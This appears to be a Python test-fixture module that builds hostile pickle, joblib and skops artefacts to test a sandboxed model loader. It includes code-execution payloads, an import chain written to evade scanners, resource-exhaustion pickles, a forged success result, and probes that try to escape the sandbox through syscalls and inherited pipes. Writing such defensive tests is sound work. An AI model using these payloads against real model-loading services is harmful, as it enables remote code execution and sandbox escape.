"""Hostile artefacts for the adversarial tests: each runs code the moment it is unpickled.

Every payload here is signed with a valid identity in the tests, so the signature gate passes
and the sandbox (or the serving side's validation) is what is tested.
"""

from __future__ import annotations

import builtins
import importlib
import io
import operator
import pickle

import joblib
import numpy as np
from sklearn.svm import SVC


class _Reduce:
    """Pickles as `fn(*args)`; `fn` may itself be a _Reduce (a call chain)."""

    def __init__(self, fn: object, *args: object) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple:
        return self.fn, self.args

    def __call__(self) -> None:  # pickle insists that the callable of a REDUCE be callable
        raise NotImplementedError


def run_python(code: str) -> bytes:
    """A pickle whose unpickling executes `code` with builtins.exec."""
    return pickle.dumps(_Reduce(builtins.exec, code, {}), protocol=4)


def os_system(command: str) -> bytes:
    import os

    return pickle.dumps(_Reduce(os.system, command), protocol=4)


TRACE_MESSAGE = "TRACE: this artefact was unpickled"
# Unpickling raises an error carrying TRACE_MESSAGE, which the loader reports: the one trace
# of unpickling that survives the sandbox (which blocks file writes and sockets).
TRACE = run_python(f"raise RuntimeError({TRACE_MESSAGE!r})")


def _fitted_svc() -> SVC:
    rng = np.random.default_rng(0)
    x = rng.normal(size=(20, 3))
    return SVC().fit(x, (x[:, 0] > 0).astype(int))


def _joblib(obj: object, **kwargs: object) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(obj, buffer, **kwargs)
    return buffer.getvalue()


def _estimator_carrying(payload: object) -> SVC:
    model = _fitted_svc()
    model.payload_ = payload  # type: ignore[attr-defined]
    return model


def import_chain(command: str) -> bytes:
    """importlib.import_module + getattr: no `os` global appears in the pickle."""
    system = _Reduce(getattr, _Reduce(importlib.import_module, "o" + "s"), "sys" + "tem")
    return pickle.dumps(_Reduce(system, command), protocol=4)


def object_array(command: str) -> bytes:
    """A joblib file whose object-dtype array carries a nested pickle that spawns a process."""
    import subprocess

    inner = np.array([_Reduce(subprocess.check_call, ["sh", "-c", command])], dtype=object)
    return _joblib(_estimator_carrying(inner))


def compressed(method: str, command: str) -> bytes:
    import subprocess

    return _joblib(_estimator_carrying(_Reduce(subprocess.check_call, ["sh", "-c", command])), compress=(method, 3))


def billion_laughs(levels: int = 40) -> bytes:
    """Memo references make a tiny pickle whose object graph is 10**levels leaves wide."""
    laugh: list = ["lol"]
    for _ in range(levels):
        laugh = [laugh] * 10
    return _joblib(_estimator_carrying(laugh))


def deep_nesting(depth: int = 200_000) -> bytes:
    """An estimator holding a list nested `depth` levels deep, written opcode by opcode."""
    marker = "NESTED-LIST-GOES-HERE"
    model = _fitted_svc()
    attach = _Reduce(setattr, model, "payload_", marker)
    data = pickle.dumps(_Reduce(operator.itemgetter(0), (model, attach)), protocol=2)
    encoded = marker.encode()
    opcode = b"X" + len(encoded).to_bytes(4, "little") + encoded  # BINUNICODE
    assert data.count(opcode) == 1
    # EMPTY_LIST x depth, then APPEND x (depth - 1): each list goes into the one below it.
    return data.replace(opcode, b"]" * depth + b"a" * (depth - 1))


class _PatchedModule:
    """Pickles as import_module(name) followed by a BUILD opcode that overwrites its attributes."""

    def __init__(self, name: str, attributes: dict) -> None:
        self.name, self.attributes = name, attributes

    def __reduce__(self) -> tuple:
        return importlib.import_module, (self.name,), self.attributes


def patch_skops_writer() -> bytes:
    """BUILD on the child's archive writer (and on skops.io) swaps them for pickle's; the top
    object is an estimator, so the child hands back a pickle where a skops archive belongs."""
    writer = _PatchedModule("loader._internal.skops_writer", {"dump": pickle.dump})
    skops_io = _PatchedModule("skops.io", {"dump": pickle.dump, "dumps": pickle.dumps})
    return pickle.dumps(_Reduce(operator.itemgetter(2), (writer, skops_io, _fitted_svc())), protocol=4)


def syscall(number: int, name: str) -> bytes:
    """Calls a raw syscall through ctypes with zero arguments and reports its result in the error.

    Zero arguments fail with EFAULT/EINVAL even unconfined: use `syscall_probe` to prove a denial.
    """
    return run_python(
        "import ctypes, os\n"
        f"r = ctypes.CDLL(None, use_errno=True).syscall({number}, 0, 0, 0, 0, 0, 0)\n"
        f"raise OSError(ctypes.get_errno(), '{name} returned ' + str(r))"
    )


# x86_64 syscalls called with arguments that succeed for an unconfined process (as root on the
# host; bpf needs root, the others also succeed for an unprivileged user with no capabilities).
SYSCALL_PROBES: dict[str, str] = {
    # io_uring_setup(1 entry, zeroed io_uring_params)
    "io_uring_setup": "libc.syscall(425, ctypes.c_uint(1), ctypes.create_string_buffer(120))",
    # userfaultfd(UFFD_USER_MODE_ONLY | O_CLOEXEC)
    "userfaultfd": "libc.syscall(323, ctypes.c_int(1 | 0o2000000))",
    # bpf(BPF_MAP_CREATE, {BPF_MAP_TYPE_ARRAY, key 4, value 4, 1 entry}, 128)
    "bpf": "libc.syscall(321, ctypes.c_int(0), ctypes.create_string_buffer(struct.pack('IIII', 2, 4, 4, 1), 128), ctypes.c_uint(128))",
    # perf_event_open(software CPU clock, user space only, this process, any CPU)
    "perf_event_open": "libc.syscall(298, ctypes.create_string_buffer(struct.pack('IIQQQQQ', 1, 64, 0, 0, 0, 0, 0x60), 64), ctypes.c_int(0), ctypes.c_int(-1), ctypes.c_int(-1), ctypes.c_ulong(0))",
    # keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_PROCESS_KEYRING, create)
    "keyctl": "libc.syscall(250, ctypes.c_int(0), ctypes.c_int(-2), ctypes.c_int(1))",
    # unshare(CLONE_NEWUSER)
    "unshare": "libc.syscall(272, ctypes.c_int(0x10000000))",
}
SYSCALL_FIRED = "FIRED:"


def syscall_probe(name: str) -> bytes:
    """A pickle calling `name` with valid arguments: raises 'FIRED: name returned N' on success,
    else OSError 'name returned -1 (strerror)'."""
    return run_python(
        "import ctypes, os, struct\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        f"r = {SYSCALL_PROBES[name]}\n"
        f"if r >= 0: raise RuntimeError('{SYSCALL_FIRED} {name} returned ' + str(r))\n"
        "e = ctypes.get_errno()\n"
        f"raise OSError(e, '{name} returned ' + str(r) + ' (' + os.strerror(e) + ')')"
    )


def system_call(command: str) -> _Reduce:
    """REDUCE os.system(command), unpickled as its return value."""
    import os

    return _Reduce(os.system, command)


def evaluate(expression: str) -> _Reduce:
    """REDUCE builtins.eval(expression)."""
    return _Reduce(builtins.eval, expression)


def import_chain_call(command: str) -> _Reduce:
    """importlib.import_module('os') + getattr 'system', called: no `os` global in the pickle."""
    system = _Reduce(getattr, _Reduce(importlib.import_module, "o" + "s"), "sys" + "tem")
    return _Reduce(system, command)


def reported(call: _Reduce, what: str) -> bytes:
    """A pickle that makes `call` and then raises KeyError('<what> returned <value>'): the
    call's own return value shows in the refusal (no exec or eval around it)."""
    message = _Reduce(operator.mod, f"{what} returned %r", call)
    return pickle.dumps(_Reduce(operator.getitem, {}, message), protocol=4)


def hostile_skops(command: str) -> bytes:
    """A skops archive whose top object is `posix.system(command)` (a ConstructorFromReduceNode):
    harmless to a loader that checks types first, runs `command` for one that trusts them all."""
    import json
    import os
    import zipfile

    import skops.io

    base = io.BytesIO(skops.io.dumps((command,)))
    with zipfile.ZipFile(base) as archive:
        schema = json.loads(archive.read("schema.json"))
        entries = {name: archive.read(name) for name in archive.namelist() if name != "schema.json"}
    meta = {key: schema.pop(key) for key in ("protocol", "_skops_version") if key in schema}
    hostile = {"__class__": os.system.__name__, "__module__": os.system.__module__,
               "__loader__": "ConstructorFromReduceNode", "content": schema, **meta}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("schema.json", json.dumps(hostile))
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def forged_result(skops_bytes: bytes) -> bytes:
    """Writes its own bytes as the conversion result and reports success to the loader.

    The result memfd is the one regular file among the child's descriptors that takes a write
    (the artefact's is sealed); the status pipe is among the live multiprocessing Connections.
    """
    return run_python(
        "import gc, json, os, stat\n"
        "from multiprocessing.connection import Connection\n"
        f"data = {skops_bytes!r}\n"
        "for fd in range(3, 256):\n"
        "    try:\n"
        "        if stat.S_ISREG(os.fstat(fd).st_mode) and os.lseek(fd, 0, 0) == 0: os.write(fd, data)\n"
        "    except OSError:\n"
        "        pass\n"
        "for c in [o for o in gc.get_objects() if isinstance(o, Connection) and o.writable]:\n"
        "    try:\n"
        "        c.send_bytes(json.dumps({'ok': True, 'untrusted_types': [], 'size': len(data)}).encode())\n"
        "    except OSError:\n"
        "        pass\n"
        "os._exit(0)\n"
    )


CONTAINED = "contained:"  # what the probes below raise when every step was refused


def inherited_pipes() -> bytes:
    """Writes to the pipes a fork-server child inherits from multiprocessing: one byte on the fork
    server's "alive" pipe (which ends the fork server) and a line on the resource tracker's
    (an unconfined loader process that acts on what it reads), found through multiprocessing's
    references, then registers a name with the tracker (which would start one if none were
    reachable) and, whatever those say, by trying every pipe the process holds other than its
    output and its own live Connections. Raises "FIRED: ..." if any write went through, else
    "contained: ..." with each refusal."""
    return run_python(
        "import gc, os, stat\n"
        "from multiprocessing import forkserver, resource_tracker\n"
        "from multiprocessing.connection import Connection\n"
        "steps, written = [], False\n"
        "for name, fd, data in (('alive', forkserver._forkserver._forkserver_alive_fd, b'x'),\n"
        "                       ('tracker', resource_tracker._resource_tracker._fd, b'PROBE:h1-probe:noop\\n')):\n"
        "    try:\n"
        "        os.write(fd, data)\n"
        "        steps.append(name + ' written'); written = True\n"
        "    except (OSError, TypeError) as exc:\n"
        "        steps.append(name + ' refused: ' + type(exc).__name__)\n"
        "try:\n"
        "    resource_tracker.register('/h1-probe', 'semaphore')  # a tracker is there to take it\n"
        "    steps.append('register written'); written = True\n"
        "except Exception as exc:\n"
        "    steps.append('register refused: ' + type(exc).__name__)\n"
        "own = {1, 2} | {c.fileno() for c in gc.get_objects() if isinstance(c, Connection) and not c.closed}\n"
        "for fd in range(3, 1024):\n"
        "    try:\n"
        "        if fd in own or not stat.S_ISFIFO(os.fstat(fd).st_mode): continue\n"
        "        os.write(fd, b'\\n')\n"
        "        steps.append(f'pipe {fd} written'); written = True\n"
        "    except OSError:\n"
        "        pass\n"
        "raise RuntimeError(('FIRED:' if written else 'contained:') + ' ' + '; '.join(steps))\n"
    )


def sigio_to_group(signum: int) -> bytes:
    """Asks the kernel to send `signum` to the child's process group whenever its output pipe
    (stdout) is read: owner by fcntl(F_SETOWN) or ioctl(FIOSETOWN), signal by F_SETSIG, async by
    O_ASYNC or ioctl(FIOASYNC). Then writes more than a pipe holds, so that the write returns only
    after the reader has read. Raises "FIRED: ..." when the owner and async mode were set,
    else "contained: ..." with each step's outcome."""
    return run_python(
        "import fcntl, os, signal, struct\n"
        f"signal.signal({signum}, signal.SIG_IGN)  # the payload's own process is in the group too\n"
        "steps = []\n"
        "def step(name, call):\n"
        "    try:\n"
        "        call(); steps.append(name + ' ok'); return True\n"
        "    except OSError as exc:\n"
        "        steps.append(name + ' refused: ' + str(exc.strerror)); return False\n"
        "group = -os.getpgrp()\n"
        "owner = step('F_SETOWN', lambda: fcntl.fcntl(1, 8, group))\n"
        "owner = step('FIOSETOWN', lambda: fcntl.ioctl(1, 0x8901, struct.pack('i', group))) or owner\n"
        f"step('F_SETSIG', lambda: fcntl.fcntl(1, 10, {signum}))\n"
        "asynced = step('O_ASYNC', lambda: fcntl.fcntl(1, fcntl.F_SETFL, fcntl.fcntl(1, fcntl.F_GETFL) | os.O_ASYNC))\n"
        "asynced = step('FIOASYNC', lambda: fcntl.ioctl(1, 0x5452, struct.pack('i', 1))) or asynced\n"
        "if owner and asynced:\n"
        "    os.write(1, b'x' * (1 << 17))\n"
        "raise RuntimeError(('FIRED:' if owner and asynced else 'contained:') + ' ' + '; '.join(steps))\n"
    )
